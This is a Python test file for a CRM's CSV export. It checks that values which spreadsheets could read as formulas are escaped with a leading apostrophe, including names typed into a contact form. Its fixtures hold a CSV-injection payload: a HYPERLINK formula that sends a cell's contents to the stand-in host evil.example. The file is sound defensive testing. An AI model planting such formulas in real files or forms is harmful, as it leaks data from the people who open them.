"""A CSV export keeps a would-be formula as text (OWASP's CSV injection list): a cell
starting with = + - @, or with a tab or a carriage return (which some spreadsheets drop
before reading the formula that follows), gets a leading apostrophe.
"""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa

from crm.extensions import db
from crm.models import Contact, MarketingStatus
from crm.services.spreadsheets import cell, csv_text
from tests.factories import make_contact
from tests.test_contact_forms import all_errors, form_data

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
#: Each start a spreadsheet may read as a formula, as a name typed into a form.
WOULD_BE_FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t" + FORMULA, "\r" + FORMULA,
                     "\t+1+2", "\r@SUM(A1)", "\t\t-1"]


@pytest.mark.parametrize("value", WOULD_BE_FORMULAS)
def test_a_would_be_formula_is_kept_as_text(value):
    assert cell(value) == "'" + value
    line = csv_text([[value, "Kaava"]])
    assert next(csv.reader(io.StringIO(line), delimiter=";")) == ["'" + value, "Kaava"]


@pytest.mark.parametrize("value", ["Anna", "", "0401234567", "a=b", "Kaava Oy - Tampere",
                                   " =1", "Tiina\tTilaaja"])
def test_other_text_is_left_as_it_is(value):
    assert cell(value) == value


@pytest.mark.parametrize("first_name", ["\t" + FORMULA, "\r" + FORMULA, "\t@SUM(A1)"])
def test_a_name_saved_in_the_form_is_exported_as_text(login_as, session, first_name):
    """A first name typed (or pasted) into the contact form with a tab or carriage return
    before a formula reaches the marketing audience's file as text."""
    contact = make_contact(session, first_name="Tiina", last_name="Tilaaja",
                           email="tiina@kaava.example",
                           marketing_status=MarketingStatus.subscribed)
    session.commit()
    client = login_as("marketing")
    path = f"/contactview/edit/{contact.id}"
    page = client.get(path).get_data(as_text=True)
    response = client.post(path, data=form_data(page, first_name=first_name))
    assert response.status_code == 302, all_errors(response.get_data(as_text=True))
    db.session.remove()
    stored = db.session.scalar(sa.select(Contact.first_name).where(Contact.id == contact.id))
    assert stored.lstrip("\t\r").startswith(("=", "@"))

    export = client.get("/audience/export.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.get_data().decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if r[0] == "tiina@kaava.example")
    assert row[1] == "'" + stored
